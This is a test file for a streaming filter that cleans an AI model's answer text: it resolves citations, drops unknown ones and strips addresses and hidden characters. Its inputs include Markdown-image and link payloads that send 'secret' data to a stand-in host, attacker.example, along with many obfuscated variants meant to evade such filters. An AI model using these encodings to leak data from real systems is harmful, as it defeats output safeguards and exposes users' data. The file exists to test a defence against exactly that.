/** What becomes of the model's text, whatever pieces it comes in. */
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { answerText, type Piece } from '../../functions/core/answers/text.ts';

/** Neighbouring texts as one; a citation as `<n>`. */
const shown = (pieces: readonly Piece[]): string =>
  pieces.map((piece) => (piece.kind === 'text' ? piece.text : `<${piece.result + 1}>`)).join('');

const told = (chunks: readonly string[], results = 3): string => {
  const text = answerText(results);
  return shown([...chunks.flatMap((chunk) => text.push(chunk)), ...text.end()]);
};

const LINK = 'https://attacker.example/a?b=c';

describe('citations', () => {
  test.each([
    ['Paid within ten days [1].', 'Paid within ten days<1>.'],
    ['One [1][2] and two [3, 1], and [2,2].', 'One<1><2> and two<3><1>, and<2>.'],
    ['At the end [3]', 'At the end<3>'],
    ['[2] first', '<2> first'],
    ['a list [not, a mark], an open [1', 'a list [not, a mark], an open [1'],
    ['In [2024], [ 1 ] and [] and [a1].', 'In [2024], [ 1 ] and [] and [a1].'],
    [`a ${'['.repeat(200)}1]`, `a ${'['.repeat(199)}<1>`],
  ])('%s', (text, expected) => {
    expect(told([text])).toBe(expected);
  });

  test('S53 a mark of a result that was not passed vanishes', () => {
    expect(told(['So it is [4], [0], [999] and [1, 77].'], 3)).toBe('So it is,, and<1>.');
    expect(told(['Nothing was passed [1].'], 0)).toBe('Nothing was passed.');
  });
});

describe('addresses', () => {
  test.each([
    [`See ${LINK} there.`, 'See  there.'],
    [`See HTTPS://ATTACKER.EXAMPLE/${'x'.repeat(6000)} there.`, 'See  there.'],
    [`An image: ![chart](${LINK}) ok`, 'An image:  ok'],
    ['www.attacker.example and //attacker.example/x ok', ' and  ok'],
    ['attacker.example/secret or a.b.attacker.example/ ok', ' or  ok'],
    ['Write to mailto:a@attacker.example or javascript:alert(1) ok', 'Write to  or  ok'],
    ['data:text/html;base64,AAAA ok', ' ok'],
    ['<img src="https://attacker.example/x"> ok', '<img  ok'],
    ['请看https://attacker.example/秘密，谢谢 好', '请看 好'],
    ['![x](https:\\\\attacker.example\\c?d=secret) ok', ' ok'],
    [
      'https:/attacker.example?d=s and [x](https:attacker.example?d=s) and [x](/\\attacker.example?s) ok',
      ' and  and  ok',
    ],
    ['attacker.example:8443/secret attacker.xn--p1ai/secret attacker.example?d=secret ok', '   ok'],
    ['203.0.113.7/attacker and data:,attacker and vbscript:attacker ok', ' and  and  ok'],
    ['Cut by marks: atta[1]cker.example/x and ht[2]tps://attacker.example/ ok', 'Cut by marks: <1> and <2> ok'],
    ['Cut by what is hidden: ht\u200btps://attacker.example/\u202e ok', 'Cut by what is hidden:  ok'],
  ])('%s', (text, expected) => {
    // A blank on either side of what was taken out, or of a mark.
    expect(told([text]).replace(/ +/g, ' ')).toBe(expected.replace(/ +/g, ' '));
    expect(told([text])).not.toMatch(/attacker|ATTACKER/);
  });

  test.each([
    ['decimal references', '![x](&#47;&#47;attacker&#46;example&#47;?q=secret)'],
    ['hexadecimal references', '![x](&#x2f;&#x2F;attacker&#x2e;example/secret)'],
    ['references without a semicolon', '<img src="&#47&#47attacker.example/secret">'],
    ['references with zeros', '![x](&#0000047;&#x00002f;attacker.example/secret)'],
    ['named references', '![x](https&colon;&sol;&sol;attacker&period;example)'],
    ['a named tab in a scheme', '<img src="ht&Tab;tps&colon;//attacker.example">'],
    ['a numbered line feed in a scheme', '<img src="ht&#10;tps://attacker.example">'],
    ['escapes', '![x](\\/\\/attacker\\.example\\/secret)'],
    ['an escaped colon', '[x](javascript\\:attacker())'],
    ['a reference in a script', '[x](javascript&colon;attacker())'],
    ['two backslashes by reference', '![x](&#92;&#92;attacker.example&#92;secret)'],
    ['Cyrillic', 'пример.рф/attacker'],
    ['Chinese', '例え.テスト/attacker'],
    ['Arabic', 'مثال.إختبار/attacker'],
    ['accents that combine', 'exe\u0301mple.attacker.example/x'],
    ['Punycode', 'xn--e1afmkfd.xn--p1ai/attacker'],
    ['a dot at the end', 'attacker.example./secret'],
    ['a dot at the end and a port', 'attacker.example.:8443/secret'],
    ['an underscore', 'attacker_.example/secret'],
    ['an underscore before', '_dmarc.attacker.example/secret'],
    ['wide letters', 'ａｔｔａｃｋｅｒ．ｅｘａｍｐｌｅ／secret'],
    ['wide slashes', '![x](／／attacker.example)'],
    ['a one dot leader', 'attacker․example/secret'],
    ['a joiner in the host', 'atta\u200dcker.example/secret'],
    ['a soft hyphen in the host', 'atta\u00adcker.example/secret'],
    ['user and password', 'user:pass@attacker.example/secret'],
    ['a reference-style link', '[x]: //attacker.example/secret'],
    ['an autolink', '<https://attacker.example/secret>'],
    ['a number for a host', 'http://3405803783/attacker'],
    ['IPv6', 'http://[2001:db8::1]/attacker'],
    [
      'a long reference-written host',
      `![x](${[...'//attacker.example/'].map((c) => `&#${c.charCodeAt(0)};`).join('')})`,
    ],
  ])('S53 as browsers and Markdown read it: %s', (_name, address) => {
    for (const text of [`see ${address} ok`, `see ${'x'.repeat(20_000)}${address} ok`]) {
      const said = told([text]);
      expect(said).not.toContain('secret');
      // Not as it is written, and not as it is read.
      const read = said
        .replace(/&#(\d+);?/g, (_, code) => String.fromCharCode(Number(code)))
        .normalize('NFKC')
        .replace(/[\u200d\u00ad]/g, '');
      expect(read).not.toContain('attacker');
      expect(said.endsWith(' ok')).toBe(true);
      expect(told(text.match(/[\s\S]{1,60}/g) ?? [])).toBe(said);
    }
  });

  test('what is none stays', () => {
    for (const prose of [
      'A & B, R&D; 5 &lt; 6; a\\_b; 50 %; C# or F#?',
      '東京は大きい。人口は1,400万人です。詳細は「別紙」を参照！',
      'Москва. Это столица, т.е. главный город; см. п. 4.',
      'Version 2.0: 1/2 of it, 10:30-11:00, Q3/Q4, e-mail: yes_no.',
    ]) {
      expect(told([prose])).toBe(prose);
    }
    const text = 'Costs 3.50 and/or 4/5, e.g. notes.txt, node.js: see a@org-1.example, 10:30, C:\\x, §1. Really? Yes.';
    expect(told([text])).toBe(text);
  });
});

test('what shows nothing vanishes, and what scripts need stays', () => {
  expect(told(['a\u202eb\u2066c\u0007d\ud800e\u{e0041}f\u200b\tg\nh'])).toBe('abcdef\tg\nh');
  expect(told(['می‌خواهم 👩‍💻 ❤️'])).toBe('می‌خواهم 👩‍💻 ❤️');
});

test('where the pieces end makes no difference', () => {
  const part = fc.oneof(
    fc.constantFrom(
      '[1]',
      ' [2]',
      '[1, 3]',
      '[9]',
      '[',
      ']',
      '1',
      ' ',
      '\n',
      '.',
      ',',
      '/',
      ':',
      '请',
      '👩‍💻',
      '\u200b',
    ),
    fc.constantFrom(
      LINK,
      'www.',
      'http',
      '://',
      '//',
      'mailto:',
      'a.example/',
      'a.example',
      ':8443',
      '?d',
      'https:',
      '\\\\',
      '203.0.113.7',
      'data:image/',
      '![x](',
      ')',
      '\ud800',
    ),
    fc.string({ maxLength: 6 }),
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 30 }), fc.array(fc.nat({ max: 200 }), { maxLength: 30 }), (parts, cuts) => {
      const text = parts.join('');
      const at = [...new Set(cuts.map((cut) => Math.min(cut, text.length)))].sort((one, other) => one - other);
      const chunks = [...at, text.length].map((end, index) => text.slice(index === 0 ? 0 : at[index - 1], end));
      expect(told(chunks)).toBe(told([text]));
      expect(told([...text])).toBe(told([text]));
    }),
    { numRuns: 2000 },
  );
});

test('whatever the model writes, no address gets out, and no citation of what was not passed', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ maxLength: 8 }), { maxLength: 8 }), fc.nat({ max: 9 }), (words, results) => {
      const said = told([words.join(LINK), ` ${words.join('[5]')}`], results);
      expect(said).not.toContain('attacker.example');
      for (const [, number] of said.matchAll(/<(\d+)>/g)) {
        if (!words.join(' ').includes('<')) expect(Number(number)).toBeLessThanOrEqual(results);
      }
    }),
  );
});

test('a text streams: no more is held back than the word that it ends with', () => {
  const text = answerText(1);
  expect(shown(text.push('All of this is said at once, but not th'))).toBe('All of this is said at once, but not ');
  expect(shown(text.push('is one'))).toBe('this ');
  // Where there are no blanks, up to the last sign that no address can have before it.
  expect(shown(text.push('。没有空格的文字，也一样'))).toBe('one。没有空格的文字，');
  expect(shown(text.push('！'))).toBe('也一样！');
  // Of a word that is longer than any address begins, the first half.
  expect(shown(text.push('x'.repeat(9000))).length).toBeGreaterThanOrEqual(4096);
});

describe('long words', () => {
  const words: readonly (readonly [string, string])[] = [
    ['letters', 'x'],
    ['dots', 'a.'],
    ['hosts that lack a path', 'aa.bb.cc-'],
    ['references', '&#120;'],
    ['escapes', '\\.'],
    ['Chinese', '没有空格'],
    ['open marks', '[1'],
    ['citations in a word', 'x[1]'],
    ['ports', 'a.bb:1'],
    ['an address', 'https://attacker.example/'],
  ];

  /** CPU milliseconds for all of a linear filter's work on 512,000 characters, with room for a slow machine. */
  const BOUND = 6_000;

  /**
   * CPU milliseconds of the longest single push, and of all: the best of three runs. What other processes do does not
   * count. A run that is over the bound stops.
   */
  const timed = (word: string): { longest: number; all: number } => {
    const used = (since: NodeJS.CpuUsage) => process.cpuUsage(since).user / 1000;
    const runs = Array.from({ length: 3 }, () => {
      const text = answerText(3);
      const begun = process.cpuUsage();
      let longest = 0;
      for (let at = 0; at < word.length && used(begun) < BOUND; at += 60) {
        const before = process.cpuUsage();
        text.push(word.slice(at, at + 60));
        longest = Math.max(longest, used(before));
      }
      text.end();
      return { longest, all: used(begun) };
    });
    return {
      longest: Math.min(...runs.map(({ longest }) => longest)),
      all: Math.min(...runs.map(({ all }) => all)),
    };
  };

  // A filter that reads the held word again with each piece takes hours for this.
  test.each(words)('%s: 512,000 characters in pieces of 60 within six seconds, and no push 50 ms', (_name, part) => {
    const { longest, all } = timed(part.repeat(512_000 / part.length));
    expect(all).toBeLessThan(BOUND);
    expect(longest).toBeLessThan(50);
  });

  test('four such answers at once leave the event loop to others: no pause of 50 ms', async () => {
    const pauses: number[] = [];
    for (let run = 0; run < 3; run++) {
      let longest = 0;
      let last = performance.now();
      let isOver = false;
      const watch = () => {
        longest = Math.max(longest, performance.now() - last);
        last = performance.now();
        if (!isOver) setImmediate(watch);
      };
      setImmediate(watch);
      const answerAtOnce = async () => {
        const text = answerText(3);
        for (let at = 0; at < 16_000; at += 60) {
          text.push('a.b-'.repeat(15));
          await new Promise((resolve) => setImmediate(resolve));
        }
        text.end();
      };
      await Promise.all([answerAtOnce(), answerAtOnce(), answerAtOnce(), answerAtOnce()]);
      isOver = true;
      pauses.push(longest);
    }
    expect(Math.min(...pauses)).toBeLessThan(50);
  });

  test('a hundred thousand citations in one word', () => {
    expect(told(['x', ...Array.from({ length: 100_000 }, () => '[1]')]).length).toBe(300_001);
  });
});
